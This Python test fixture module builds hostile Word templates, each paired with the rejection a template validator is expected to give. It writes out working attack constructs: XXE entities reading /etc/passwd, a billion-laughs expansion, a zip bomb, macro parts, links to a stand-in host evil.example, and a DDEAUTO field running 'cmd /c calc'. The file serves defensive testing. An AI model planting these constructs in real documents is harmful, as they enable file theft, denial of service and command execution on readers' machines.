"""Word templates as strangers might send them: each with the reason for which it is refused."""

import io
import zipfile
from collections.abc import Callable, Mapping
from importlib.resources import files

from citybraid.report.templating import packages

MAIN, TYPES, RELS = "word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"
LAUGHS = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
FILE = "file:///etc/passwd"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
DEEP = 100_000
"""Elements within each other."""


def shipped(name: str = "annex_text") -> bytes:
    return files("citybraid.report").joinpath("templates", f"{name}.docx").read_bytes()


def changed(source: bytes, parts: Mapping[str, bytes]) -> bytes:
    """Return a package with parts changed or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, data in parts.items():
            new.writestr(name, data)
    return out.getvalue()


def part(source: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(source)) as package:
        return package.read(name).decode("utf-8")


def with_declaration(source: bytes, name: str, declared: str, reference: str, encoding: str = "utf-8") -> bytes:
    head, _, body = part(source, name).partition("?>")
    text = f"{head}?>".replace("UTF-8", encoding.upper()) + declared + body.replace("<w:body>", f"<w:body>{reference}")
    return changed(source, {name: text.encode(encoding)})


def linked(source: bytes, kind: str, *, mode: str = "External", encoding: str = "utf-8") -> bytes:
    """Return a document with a relationship that leads elsewhere."""
    link = f'<Relationship Id="rIdEvil" Type="{KIND}{kind}" Target="http://evil.example/a" TargetMode="{mode}"/>'
    text = part(source, RELS).replace("</Relationships>", f"{link}</Relationships>").replace("UTF-8", encoding.upper())
    return changed(source, {RELS: text.encode("utf-8" if encoding == "utf-7" else encoding)})


def with_text(source: bytes, text: str) -> bytes:
    """Return a document whose body begins with some XML."""
    return changed(source, {MAIN: part(source, MAIN).replace("<w:body>", f"<w:body>{text}", 1).encode()})


def field(*parts: str) -> str:
    """Return a paragraph with a field whose instruction is spread over runs."""
    said = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in parts)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def _macro(good: bytes) -> bytes:
    types = part(good, TYPES)
    macro = types.replace("wordprocessingml.document.main+xml", "macroEnabled.main+xml").replace(
        "vnd.openxmlformats-officedocument.macroEnabled", "vnd.ms-word.document.macroEnabled"
    )
    return changed(good, {TYPES: macro.encode()})


HOSTILE: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "bomb": (lambda good: changed(good, {"word/media/a.png": bytes(packages.UNPACKED + 1)}), "package.bomb"),
    "parts": (lambda good: changed(good, {f"x/{at}": b"" for at in range(packages.MOST_PARTS + 1)}), "package.bomb"),
    "external entity": (
        lambda good: with_declaration(good, MAIN, f'<!DOCTYPE a [<!ENTITY x SYSTEM "{FILE}">]>', "&x;"),
        "package.entities",
    ),
    "external entity in UTF-16": (
        lambda good: with_declaration(good, MAIN, f'<!DOCTYPE a [<!ENTITY x SYSTEM "{FILE}">]>', "&x;", "utf-16"),
        "package.entities",
    ),
    "billion laughs": (
        lambda good: with_declaration(good, "word/styles.xml", f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]>', "&l9;"),
        "package.entities",
    ),
    "macro": (lambda good: changed(good, {"word/vbaProject.bin": b"x"}), "package.macros"),
    "docm": (_macro, "package.macros"),
    "object": (lambda good: changed(good, {"word/embeddings/oleObject1.bin": b"x"}), "package.macros"),
    "remote template": (lambda good: linked(good, "attachedTemplate"), "package.external"),
    "linked picture": (lambda good: linked(good, "image"), "package.external"),
    "linked picture, spelled": (lambda good: linked(good, "image", mode="Ext&#101;rnal"), "package.external"),
    "linked picture in UTF-16": (lambda good: linked(good, "image", encoding="utf-16"), "package.external"),
    "linked picture in UTF-7": (lambda good: linked(good, "image", encoding="utf-7"), "package.encoding"),
    "document of another kind": (lambda good: linked(good, "aFChunk", mode="Internal"), "package.macros"),
    "picture field": (
        lambda good: with_text(good, field("INCLUDEPIC", 'TURE "http://evil.example/a.png"')),
        "package.external",
    ),
    "program field": (
        lambda good: with_text(good, '<w:fldSimple w:instr=" DDEAUTO cmd /c calc "/>'),
        "package.external",
    ),
    "depth": (lambda good: with_text(good, "<w:p>" * DEEP + "</w:p>" * DEEP), "package.none"),
    "entity in a part of another name": (
        lambda good: changed(good, {"word/a.foo": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{FILE}">]><a>&x;</a>'.encode()}),
        "package.entities",
    ),
    "no package": (lambda _: b"PK\x03\x04 not a package", "package.none"),
    "cut": (lambda good: good[: len(good) // 2], "package.none"),
}
"""How a sound document becomes a hostile one, and the text that refuses it, by name."""


def hostile_document(name: str) -> tuple[bytes, str]:
    """Return a document and the text that refuses it."""
    make, refusal = HOSTILE[name]
    return make(shipped()), refusal
